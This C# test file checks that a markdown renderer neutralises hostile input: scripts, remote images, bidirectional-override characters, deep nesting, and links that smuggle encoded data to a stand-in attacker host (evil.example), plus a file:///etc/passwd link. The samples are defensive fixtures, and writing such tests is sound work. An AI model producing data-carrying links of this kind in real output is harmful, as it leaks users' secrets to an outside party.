// SPDX-License-Identifier: Apache-2.0

using AngleSharp.Html.Parser;

namespace Sigil.Components.Tests.Markdown;

public sealed class MarkdownSafetyTests
{
    [Theory]
    [Trait("attack", "XS-1")]
    [MemberData(nameof(HostileTexts.Scripts), MemberType = typeof(HostileTexts))]
    public void Scripts_InMarkdown_BecomeText(string markdown) => SafeMarkup.AssertHarmless(SafeMarkup.Render(markdown));

    [Theory]
    [Trait("attack", "XS-2")]
    [MemberData(nameof(HostileTexts.Confusions), MemberType = typeof(HostileTexts))]
    public void ParserConfusions_InMarkdown_BecomeText(string markdown) => SafeMarkup.AssertHarmless(SafeMarkup.Render(markdown));

    [Theory]
    [Trait("attack", "XS-4")]
    [MemberData(nameof(HostileTexts.Drawings), MemberType = typeof(HostileTexts))]
    public void DiagramsAndFormulas_InMarkdown_StayText(string markdown) => SafeMarkup.AssertHarmless(SafeMarkup.Render(markdown));

    [Theory]
    [Trait("attack", "SX-3")]
    [Trait("attack", "SX-4")]
    [MemberData(nameof(HostileTexts.Remote), MemberType = typeof(HostileTexts))]
    public void RemoteContent_InMarkdown_IsNeverLoaded(string markdown)
    {
        var html = SafeMarkup.Render(markdown);

        SafeMarkup.AssertHarmless(html);
        var document = new HtmlParser().ParseDocument(html);
        Assert.Empty(document.QuerySelectorAll("[src], [srcset], [poster], [data], [background], [style], link, img"));
    }

    [Fact]
    public void Image_InMarkdown_ShowsItsWordsAndAddress()
    {
        var html = SafeMarkup.Render("![a cat](https://evil.example/?d=1)");

        Assert.Contains("a cat", html, StringComparison.Ordinal);
        Assert.Contains("https://evil.example/?d=1", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[x](https://user:password@e.example/)")]
    [InlineData("[x](/logout)")]
    [InlineData("[x](//e.example/)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x](chrome://settings)")]
    [InlineData("[x](blob:https://e.example/1)")]
    public void Link_ThatIsNoPlainWebAddress_IsText(string markdown)
        => Assert.DoesNotContain("<a", SafeMarkup.Render(markdown), StringComparison.Ordinal);

    [Theory]
    [Trait("attack", "SX-3")]
    [Trait("attack", "SX-5")]
    [InlineData("https://evil.example/?d=c2VjcmV0IGNhbmFyeSBvZiB0aGUgdXNlcg")]
    [InlineData("https://evil.example/#4f70656e20736573616d6521")]
    [InlineData("https://evil.example/c2VjcmV0IGNhbmFyeSBvZiB0aGUgdXNlcg/x")]
    [InlineData("https://evil.example/?a=4f70656e20&b=736573616d&c=6521a1b2c3&d=99ee00ff11")]
    [InlineData("https://4f70656e207365736x616d6521.evil.example/")]
    [InlineData("mailto:x@evil.example?body=secret")]
    public void Link_ThatCarriesData_IsShownAndNotLinked(string address)
    {
        var html = SafeMarkup.Render($"[here]({address})");

        Assert.DoesNotContain("<a", html, StringComparison.Ordinal);
        Assert.Contains("here", html, StringComparison.Ordinal);
        Assert.Contains(new Uri(address).AbsoluteUri, System.Net.WebUtility.HtmlDecode(html), StringComparison.Ordinal);
        Assert.DoesNotContain("<a", SafeMarkup.Render(address), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://github.com/dotnet/runtime/commit/0d4979ab15da5e8f63bce15f6457c46c83feab12")]
    [InlineData("https://example.org/items/3f2504e0-4f89-11d3-9a0c-0305e82c3301")]
    [InlineData("https://example.org/2026/11/how-to-build-a-secure-gateway-in-a-weekend")]
    [InlineData("https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s")]
    [InlineData("https://www.example.org/search?q=what+is+the+capital+of+france&lang=en")]
    [InlineData("https://learn.microsoft.com/dotnet/api/system.text.regularexpressions.regexoptions?view=net-10.0#fields")]
    [InlineData("https://maps.example.org/@48.8583701,2.2922926,17z")]
    [InlineData("mailto:someone@example.org")]
    public void Link_ThatPeopleShare_IsLinked(string address)
        => Assert.Contains("<a href=", SafeMarkup.Render($"[here]({address})"), StringComparison.Ordinal);

    [Fact]
    public void Link_ToTheWeb_OpensElsewhereWithoutReferrer()
        => Assert.Contains(
            "<a href=\"https://example.org/\" title=\"https://example.org/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">here</a>",
            SafeMarkup.Render("[here](https://example.org/)"),
            StringComparison.Ordinal);

    [Fact]
    [Trait("attack", "PI-O3")]
    public void DirectionOverride_InCodeAndText_IsSpelledOut()
    {
        var html = SafeMarkup.Render("safe \u202Etxt\u202C\n\n```\nif (a) {\u2066 // \u2069\n```");

        Assert.DoesNotContain('\u202E', html);
        Assert.DoesNotContain('\u2066', html);
        var shown = new HtmlParser().ParseDocument(html).Body!.TextContent;
        Assert.Contains("safe ⟨U+202E⟩txt", shown, StringComparison.Ordinal);
        Assert.Contains("⟨U+2066⟩ // ⟨U+2069⟩", shown, StringComparison.Ordinal);
    }

    [Fact]
    public void DeepNesting_IsShownAsItIs_AndDoesNotBreakThePage()
    {
        var hostile = new string('>', 20_000) + " x";

        var html = SafeMarkup.Render(hostile);

        SafeMarkup.AssertHarmless(html);
        Assert.StartsWith("<pre>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void CodeBlock_HasLanguageAndCopyButton()
    {
        var html = SafeMarkup.Render("```c#\nvar x = \"<b>\";\n```");

        Assert.Contains("<span class=\"code-language\">c#</span>", html, StringComparison.Ordinal);
        Assert.Contains("data-copy", html, StringComparison.Ordinal);
        Assert.Contains("var x = &quot;&lt;b&gt;&quot;;", html, StringComparison.Ordinal);
    }

    [Fact]
    public void LettersOfEveryScript_StayLetters()
        => Assert.Contains("日本語 עברית ünï", SafeMarkup.Render("日本語 עברית ünï"), StringComparison.Ordinal);
}
